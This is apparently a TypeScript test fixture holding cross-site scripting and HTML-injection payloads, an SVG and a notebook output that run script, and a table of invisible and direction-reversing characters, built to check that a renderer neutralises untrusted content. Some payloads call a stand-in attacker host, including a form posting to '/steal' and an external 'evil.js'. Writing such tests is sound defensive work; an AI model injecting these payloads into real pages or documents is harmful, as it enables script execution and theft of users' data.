/** Texts that would do something in a careless page: each sets a mark, opens a dialog, or calls home. */

/** A host that nobody has; whoever asks for it has been made to. */
export const HOME = "http://attacker.invalid";

export const markupPayloads: readonly string[] = [
  `<script>window.ran=1</script>`,
  `<img src=x onerror="window.ran=2">`,
  `<svg onload="window.ran=3"><script>window.ran=3</script></svg>`,
  `"><iframe srcdoc="<script>parent.ran=4</script>"></iframe>`,
  `<a href="javascript:window.ran=5" id="lure">click</a>`,
  `[click](javascript:window.ran=6) ![x](${HOME}/pixel.png)`,
  `<style>@import url("${HOME}/a.css"); body{display:none}</style>`,
  `<link rel="stylesheet" href="${HOME}/b.css">`,
  `<meta http-equiv="refresh" content="0;url=${HOME}/">`,
  `<base href="${HOME}/">`,
  `<form action="${HOME}/steal"><button autofocus onfocus="window.ran=7">go</button></form>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror="window.ran=8">`,
  `{{constructor.constructor('window.ran=9')()}}`,
  `<object data="${HOME}/x.swf"></object><embed src="${HOME}/y">`,
  `</title></textarea></pre><script>window.ran=10</script>`,
  `<template><script>window.ran=11</script></template><details open ontoggle="window.ran=12">`,
];

/** The same lines as a picture that browsers run scripts of. */
export const svgPayload: string = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" onload="window.ran=20">
  <script href="${HOME}/evil.js"/><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="window.ran=21"/></body></foreignObject>
</svg>
`;

/** A notebook whose cell has an output for browsers. */
export function notebookWith(html: string): string {
  const cell = {
    cell_type: "code",
    id: "a1",
    execution_count: 1,
    metadata: {},
    source: ["print(1)\n"],
    outputs: [
      {
        output_type: "display_data",
        metadata: {},
        data: { "text/html": [html], "application/javascript": ["window.ran=30"] },
      },
    ],
  };
  return `${JSON.stringify({ cells: [cell], metadata: {}, nbformat: 4, nbformat_minor: 5 }, null, 1)}\n`;
}

/** Characters that show nothing or turn text around, by code point, and what must be seen in their place. */
export const unseenCharacters: readonly (readonly [character: string, shown: string])[] = [
  ["\u202e", "U+202E"],
  ["\u2066", "U+2066"],
  ["\u200b", "U+200B"],
  ["\u{e0041}", "U+E0041"],
  ["\u001b", "U+001B"],
  ["\ufeff", "U+FEFF"],
];
